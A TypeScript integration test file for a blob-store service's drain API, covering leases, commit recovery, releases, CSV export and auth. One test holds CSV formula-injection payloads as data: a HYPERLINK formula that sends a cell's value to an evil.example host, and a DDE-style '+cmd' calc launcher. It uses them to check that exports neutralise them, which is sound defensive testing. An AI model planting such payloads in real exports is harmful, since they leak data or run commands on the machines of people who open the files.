import { type Drain, DrainCommitResponseSchema, DrainReleaseResponseSchema, drainRoutes, DrainSchema, ErrorBodySchema, IngestResponseSchema, Routes } from 'kpiggybank-client/wire';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MemoryStore } from '../src/store/memory/memory-store.js';
import { StoreUnavailableError, type StoredBlob } from '../src/store/store.js';
import { metric, pool, serveApp, startTestApp, type TestApp } from './support/app.js';
import { FeedClient, until } from './support/feed-client.js';
import { ManualClock } from './support/manual-clock.js';
import { BACKENDS } from './support/stores.js';

const TOKEN = 'drain-token';
const auth = { Authorization: `Bearer ${TOKEN}` };

async function post(url: string, blobs: object[]): Promise<string[]> {
  const res = await fetch(`${url}${Routes.blobs}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(blobs) });
  expect(res.status).toBe(201);
  return IngestResponseSchema.parse(await res.json()).ids;
}

async function claim(url: string, query = ''): Promise<Drain> {
  const res = await fetch(`${url}${Routes.drains}${query}`, { method: 'POST', headers: auth });
  expect(res.status).toBe(201);
  return DrainSchema.parse(await res.json());
}

async function begin(url: string, query = ''): Promise<{ id: string; count: number }> {
  return claim(url, query);
}

async function release(url: string, id: string): Promise<Response> {
  return fetch(`${url}${drainRoutes(id).release}`, { method: 'POST', headers: auth });
}

/** Its store stops removing after `removals` calls, as a dying store would. */
class FailingStore extends MemoryStore {
  removals = Infinity;
  override async remove(ids: readonly string[]): Promise<number> {
    if (this.removals-- <= 0) throw new StoreUnavailableError('the store went away mid-commit');
    return super.remove(ids);
  }
}

/** A promise opened from outside. */
class Gate {
  resolve: () => void = () => {};
  readonly promise = new Promise<void>((resolve) => (this.resolve = resolve));
}

/** Polls an async check every 20 ms until it holds. */
async function eventually(check: () => Promise<boolean>, timeoutMs: number, what: string): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/** While `gate` is set, its removals (and, with `gatePages`, its range pages) wait for it; `waiting` counts those waiting. */
class GatedStore extends MemoryStore {
  gate: Gate | undefined;
  gatePages = false;
  waiting = 0;
  private async pass(): Promise<void> {
    if (!this.gate) return;
    this.waiting++;
    await this.gate.promise;
  }
  override async remove(ids: readonly string[]): Promise<number> {
    await this.pass();
    return super.remove(ids);
  }
  override async page(...args: Parameters<MemoryStore['page']>): Promise<StoredBlob[]> {
    if (this.gatePages) await this.pass();
    return super.page(...args);
  }
}

async function read(url: string, id: string): Promise<{ _id: string; timestamp: number }[]> {
  const res = await fetch(`${url}${drainRoutes(id).blobs}`, { headers: auth });
  expect(res.status).toBe(200);
  return (await res.text())
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));
}

async function commit(url: string, id: string): Promise<Response> {
  return fetch(`${url}${drainRoutes(id).commit}`, { method: 'POST', headers: auth });
}

const count = async (t: TestApp) => (await request(t.url).get(Routes.count)).body as number;

describe.each(BACKENDS)('draining the %s backend', (backend) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp(backend, { tokens: { drain: TOKEN } });
  });
  afterAll(async () => {
    await t.close();
  });

  it('gives 10,000 blobs to two concurrent drains, none twice; after both commit, count is 0 and the feed saw the deletions', { timeout: 180_000 }, async () => {
    const feed = await FeedClient.connect(t.wsUrl);
    await until(() => feed.isLive, 5000, 'live');
    const posted = (
      await pool(20, 4, (i) =>
        post(
          t.url,
          Array.from({ length: 500 }, (_, j) => ({ timestamp: 1_000 + i * 500 + j })),
        ),
      )
    ).flat();
    const [a, b] = await Promise.all([begin(t.url), begin(t.url)]);
    expect(a!.count + b!.count).toBe(10_000);
    const [fromA, fromB] = await Promise.all([read(t.url, a!.id), read(t.url, b!.id)]);
    expect(fromA.length).toBe(a!.count);
    expect(fromB.length).toBe(b!.count);
    const all = [...fromA, ...fromB].map((blob) => blob._id);
    expect(new Set(all).size).toBe(10_000);
    expect(new Set(all)).toEqual(new Set(posted));
    expect(fromA.map((blob) => blob.timestamp)).toEqual([...fromA.map((blob) => blob.timestamp)].sort((x, y) => x - y));

    for (const drain of [a!, b!]) {
      const res = await commit(t.url, drain.id);
      expect(res.status).toBe(200);
      expect(DrainCommitResponseSchema.parse(await res.json()).removed).toBe(drain.count);
    }
    expect(await count(t)).toBe(0);
    await until(() => feed.changes.filter((c) => c.deleted).length >= 10_000, 90_000, 'the deletions on the feed');
    await feed.close();
  });

  it('leaves blobs posted during a drain either in it or in the store: none lost, none doubled', { timeout: 60_000 }, async () => {
    await post(
      t.url,
      Array.from({ length: 2000 }, (_, i) => ({ timestamp: 50_000 + i })),
    );
    let writing = true;
    const written: string[] = [];
    const writer = (async () => {
      // ~400 blobs/s: PouchDB Server indexes its view at about 1,000 docs/s, and every read waits for it
      for (let i = 0; writing; i++) {
        written.push(
          ...(await post(
            t.url,
            Array.from({ length: 20 }, (_, j) => ({ timestamp: 50_000 + i * 20 + j, late: true })),
          )),
        );
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    })();
    const drain = await begin(t.url);
    const drained = await read(t.url, drain.id);
    expect((await commit(t.url, drain.id)).status).toBe(200);
    writing = false;
    await writer;
    const left = (await request(t.url).get(`${Routes.blobs}?shape=blobs`).expect(200)).body as { _id: string }[];
    const drainedIds = new Set(drained.map((blob) => blob._id));
    expect(left.filter((blob) => drainedIds.has(blob._id))).toEqual([]);
    expect(drainedIds.size + left.length).toBe(2000 + written.length);
    expect(written.every((id) => drainedIds.has(id) || left.some((blob) => blob._id === id))).toBe(true);
    const next = await begin(t.url);
    expect((await commit(t.url, next.id)).status).toBe(200);
  });

  it('refuses a second commit (409) and an unknown drain (404) with JSON', async () => {
    await post(t.url, [{ timestamp: 1 }]);
    const drain = await begin(t.url);
    expect((await commit(t.url, drain.id)).status).toBe(200);
    const again = await commit(t.url, drain.id);
    expect(again.status).toBe(409);
    expect(ErrorBodySchema.parse(await again.json()).error).toBe('drain_committed');
    const unknown = await commit(t.url, 'no-such-drain');
    expect(unknown.status).toBe(404);
    expect(ErrorBodySchema.parse(await unknown.json()).error).toBe('not_found');
    const metrics = (await request(t.url).get(Routes.metrics)).text;
    expect(metrics).toMatch(/kpiggybank_drains_total\{event="started"\} [1-9]/);
    expect(metrics).toMatch(/kpiggybank_drains_total\{event="committed"\} [1-9]/);
    expect(metrics).toMatch(/kpiggybank_blobs_drained_total [1-9]/);
  });
});

describe('drain leases, formats and access', () => {
  it('lets a new drain take every blob of a drain abandoned mid-stream once its lease is over', async () => {
    const clock = new ManualClock();
    const t = await serveApp(new MemoryStore(), { tokens: { drain: TOKEN }, drainLeaseMs: 60_000, drainClock: clock.now });
    try {
      const ids = await post(
        t.url,
        Array.from({ length: 3000 }, (_, i) => ({ timestamp: i })),
      );
      const abandoned = await begin(t.url);
      expect(abandoned.count).toBe(3000);
      const controller = new AbortController();
      const res = await fetch(`${t.url}${drainRoutes(abandoned.id).blobs}`, { headers: auth, signal: controller.signal });
      await res.body!.getReader().read(); // a first chunk, then the client goes away
      controller.abort();
      expect((await begin(t.url)).count).toBe(0); // still claimed
      clock.advance(59_999);
      expect((await begin(t.url)).count).toBe(0); // still claimed, a moment before the lease ends
      clock.advance(1);
      const expired = await commit(t.url, abandoned.id);
      expect(expired.status).toBe(410);
      expect(ErrorBodySchema.parse(await expired.json()).error).toBe('drain_expired');
      const fresh = await begin(t.url);
      expect(fresh.count).toBe(3000);
      expect(new Set((await read(t.url, fresh.id)).map((blob) => blob._id))).toEqual(new Set(ids));
      expect(await count(t)).toBe(3000); // nothing was deleted along the way
    } finally {
      await t.close();
    }
  });

  it('keeps a drain alive while it is used: a lease is renewed by reading the drain, not counted from its start', async () => {
    const clock = new ManualClock();
    const t = await serveApp(new MemoryStore(), { tokens: { drain: TOKEN }, drainLeaseMs: 3000, drainClock: clock.now });
    try {
      await post(t.url, [{ timestamp: 1 }, { timestamp: 2 }, { timestamp: 3 }]);
      const drain = await begin(t.url);
      for (let i = 0; i < 7; i++) {
        clock.advance(2999);
        const info = await fetch(`${t.url}${drainRoutes(drain.id).status}`, { headers: auth });
        expect(info.status).toBe(200); // 21 s after the claim, past the 3 s lease: renewed by each look
      }
      expect((await commit(t.url, drain.id)).status).toBe(200);
      expect(await count(t)).toBe(0);
      // left alone, the same lease ends: a drain not looked at for 3 s is gone
      await post(t.url, [{ timestamp: 4 }]);
      const idle = await begin(t.url);
      clock.advance(3000);
      expect((await fetch(`${t.url}${drainRoutes(idle.id).status}`, { headers: auth })).status).toBe(410);
    } finally {
      await t.close();
    }
  });

  it('resumes a commit cut short at once in the process where it failed; until then no other drain takes its blobs', { timeout: 30_000 }, async () => {
    const store = new FailingStore();
    const t = await serveApp(store, { tokens: { drain: TOKEN }, drainLeaseMs: 60_000 });
    try {
      await post(
        t.url,
        Array.from({ length: 3000 }, (_, i) => ({ timestamp: i })),
      );
      const drain = await begin(t.url);
      expect(await read(t.url, drain.id)).toHaveLength(3000);
      store.removals = 1; // the first page (1,000 blobs) goes, then the store fails
      expect((await commit(t.url, drain.id)).status).toBe(503);
      expect(await count(t)).toBe(2000);
      const other = await claim(t.url);
      expect(other.count).toBe(0); // the analyst has them: held by the drain being committed
      expect(other.held).toEqual([{ drain: drain.id, count: 2000, until: expect.any(Number), committing: true }]);
      const released = await release(t.url, drain.id);
      expect(released.status).toBe(409); // a commit is resumed, never undone
      store.removals = Infinity;
      const resumed = await commit(t.url, drain.id); // no wait for the lease: nothing runs it here any more
      expect(resumed.status).toBe(200);
      expect(DrainCommitResponseSchema.parse(await resumed.json()).removed).toBe(2000);
      expect(await count(t)).toBe(0);
    } finally {
      await t.close();
    }
  });

  it('a commit cut short in another instance: 409 with Retry-After until its lease; past it, the next claim finishes the commit', { timeout: 30_000 }, async () => {
    const store = new FailingStore();
    const clock = new ManualClock(); // one clock for both instances, as if on one host
    const [a, b] = await Promise.all([0, 1].map(() => serveApp(store, { tokens: { drain: TOKEN }, drainLeaseMs: 1000, drainClock: clock.now })));
    try {
      await post(
        a!.url,
        Array.from({ length: 3000 }, (_, i) => ({ timestamp: i })),
      );
      const drain = await begin(a!.url);
      store.removals = 1;
      expect((await commit(a!.url, drain.id)).status).toBe(503);
      store.removals = Infinity;
      const busy = await commit(b!.url, drain.id); // a may still be committing, for all b knows
      expect(busy.status).toBe(409);
      expect(Number(busy.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
      expect(ErrorBodySchema.parse(await busy.json()).reason).toMatch(/another service instance/);
      clock.advance(1000); // a's lease runs out: it died, for all b knows
      const next = await claim(b!.url);
      expect(next.count).toBe(0); // never released to a second drain
      expect(next.held).toEqual([{ drain: drain.id, count: 2000, until: expect.any(Number), committing: true }]);
      await eventually(async () => (await count(b!)) === 0, 10_000, 'the half-committed drain finished by the service');
      const again = await commit(b!.url, drain.id);
      expect(again.status).toBe(409);
      expect(ErrorBodySchema.parse(await again.json()).reason).toMatch(/committed already/);
    } finally {
      await Promise.all([a!.close(), b!.close()]);
    }
  });

  it('a second commit while one runs waits for it and gets its answer, instead of a 409', { timeout: 30_000 }, async () => {
    const store = new GatedStore();
    const t = await serveApp(store, { tokens: { drain: TOKEN } });
    try {
      await post(
        t.url,
        Array.from({ length: 3000 }, (_, i) => ({ timestamp: i })),
      );
      const drain = await begin(t.url);
      store.gate = new Gate();
      const first = commit(t.url, drain.id);
      await until(() => store.waiting > 0, 5000, 'the first commit removing');
      const second = commit(t.url, drain.id);
      await new Promise((resolve) => setTimeout(resolve, 100));
      store.gate.resolve();
      for (const res of await Promise.all([first, second])) {
        expect(res.status).toBe(200);
        expect(DrainCommitResponseSchema.parse(await res.json()).removed).toBe(3000);
      }
      expect(await count(t)).toBe(0);
    } finally {
      await t.close();
    }
  });

  it('release lets a claimed drain go at once: the next claim takes its blobs; it can no longer be read or committed (410)', async () => {
    const t = await serveApp(new MemoryStore(), { tokens: { drain: TOKEN } });
    try {
      await post(
        t.url,
        Array.from({ length: 1500 }, (_, i) => ({ timestamp: i })),
      );
      const first = await begin(t.url);
      const held = await claim(t.url);
      expect(held.count).toBe(0);
      expect(held.held).toEqual([{ drain: first.id, count: 1500, until: expect.any(Number), committing: false }]);
      const res = await release(t.url, first.id);
      expect(res.status).toBe(200);
      expect(DrainReleaseResponseSchema.parse(await res.json())).toEqual({ ok: true, id: first.id, released: 1500 });
      const next = await claim(t.url);
      expect(next.count).toBe(1500);
      expect(next.held).toEqual([]);
      for (const gone of [await commit(t.url, first.id), await fetch(`${t.url}${drainRoutes(first.id).blobs}`, { headers: auth }), await release(t.url, first.id)]) {
        expect(gone.status).toBe(410);
        expect(ErrorBodySchema.parse(await gone.json())).toMatchObject({ error: 'drain_expired', reason: expect.stringContaining('released') });
      }
      expect((await release(t.url, 'no-such-drain')).status).toBe(404);
      expect(await count(t)).toBe(1500);
      expect(await metric(t.url, 'kpiggybank_drains_total{event="released"}')).toBe(1);
    } finally {
      await t.close();
    }
  });

  it('releases a claim whose client left before the answer: its blobs are not held until the lease', { timeout: 30_000 }, async () => {
    const store = new GatedStore();
    const t = await serveApp(store, { tokens: { drain: TOKEN } });
    try {
      await post(
        t.url,
        Array.from({ length: 1500 }, (_, i) => ({ timestamp: i })),
      );
      store.gate = new Gate();
      store.gatePages = true;
      const controller = new AbortController();
      const left = fetch(`${t.url}${Routes.drains}`, { method: 'POST', headers: auth, signal: controller.signal }).catch(() => 'aborted');
      await until(() => store.waiting > 0, 5000, 'the claim under way');
      controller.abort();
      expect(await left).toBe('aborted');
      await new Promise((resolve) => setTimeout(resolve, 100)); // the server sees the connection closed
      store.gatePages = false;
      store.gate.resolve();
      await eventually(async () => (await metric(t.url, 'kpiggybank_drains_total{event="released"}')) === 1, 5000, 'the abandoned claim released');
      expect((await begin(t.url)).count).toBe(1500);
    } finally {
      await t.close();
    }
  });

  it('streams CSV: a header of every top-level field, nested values as JSON text', async () => {
    const t = await serveApp(new MemoryStore(), { tokens: { drain: TOKEN } });
    try {
      await post(t.url, [
        { _id: 'a', timestamp: 1, lang: 'en' },
        { _id: 'b', timestamp: 2, user_agent: { os: 'Linux' }, note: 'say "hi", then go' },
      ]);
      const drain = await begin(t.url);
      const res = await fetch(`${t.url}${drainRoutes(drain.id).blobs}?format=csv`, { headers: auth });
      expect(res.headers.get('content-type')).toMatch(/text\/csv/);
      expect(await res.text()).toBe('_id,timestamp,lang,user_agent,note\r\na,1,en,,\r\nb,2,,"{""os"":""Linux""}","say ""hi"", then go"\r\n');
    } finally {
      await t.close();
    }
  });

  it('neutralises CSV cells and headers that a spreadsheet would run as formulas; JSON numbers stay numbers; formulas=raw opts out', async () => {
    const t = await serveApp(new MemoryStore(), { tokens: { drain: TOKEN } });
    try {
      await post(t.url, [
        { _id: 'a', timestamp: 1, link: '=HYPERLINK("http://evil.example/?x="&A1,"click")', cmd: "+cmd|'/C calc'!A0" },
        { _id: 'b', timestamp: 2, sum: '@SUM(1+1)', dash: '-2+3', tab: '\tx', cr: '\r=1', delta: -5, '=IMPORTXML(A1,"//a")': 'safe' },
      ]);
      const drain = await begin(t.url);
      const csv = async (query: string) => {
        const res = await fetch(`${t.url}${drainRoutes(drain.id).blobs}?${query}`, { headers: auth });
        expect(res.status).toBe(200);
        return res.text();
      };
      expect(await csv('format=csv')).toBe(
        [
          `_id,timestamp,link,cmd,sum,dash,tab,cr,delta,"'=IMPORTXML(A1,""//a"")"`,
          `a,1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'+cmd|'/C calc'!A0,,,,,,`,
          `b,2,,,'@SUM(1+1),'-2+3,'\tx,"'\r=1",-5,safe`,
          '',
        ].join('\r\n'),
      );
      expect(await csv('format=csv&formulas=raw')).toBe(
        [
          `_id,timestamp,link,cmd,sum,dash,tab,cr,delta,"=IMPORTXML(A1,""//a"")"`,
          `a,1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+cmd|'/C calc'!A0,,,,,,`,
          `b,2,,,@SUM(1+1),-2+3,\tx,"\r=1",-5,safe`,
          '',
        ].join('\r\n'),
      );
      const bad = await fetch(`${t.url}${drainRoutes(drain.id).blobs}?format=csv&formulas=run`, { headers: auth });
      expect(bad.status).toBe(400);
      expect(ErrorBodySchema.parse(await bad.json())).toMatchObject({ error: 'invalid_query', reason: expect.stringContaining('formulas') });
    } finally {
      await t.close();
    }
  });

  it('answers 403 when draining is not enabled, 401 without the right token, and claims nothing', async () => {
    const closed = await serveApp(new MemoryStore());
    const open = await serveApp(new MemoryStore(), { tokens: { drain: TOKEN } });
    try {
      const disabled = await request(closed.url).post(Routes.drains).set(auth);
      expect(disabled.status).toBe(403);
      expect(ErrorBodySchema.parse(disabled.body)).toMatchObject({ error: 'forbidden', reason: expect.stringContaining('DRAIN_TOKEN') });
      await post(open.url, [{ timestamp: 1 }]);
      expect((await request(open.url).post(Routes.drains)).status).toBe(401);
      expect((await request(open.url).post(Routes.drains).set('Authorization', 'Bearer wrong')).status).toBe(401);
      expect((await begin(open.url)).count).toBe(1); // the refused attempts claimed nothing
    } finally {
      await Promise.all([closed.close(), open.close()]);
    }
  });
});
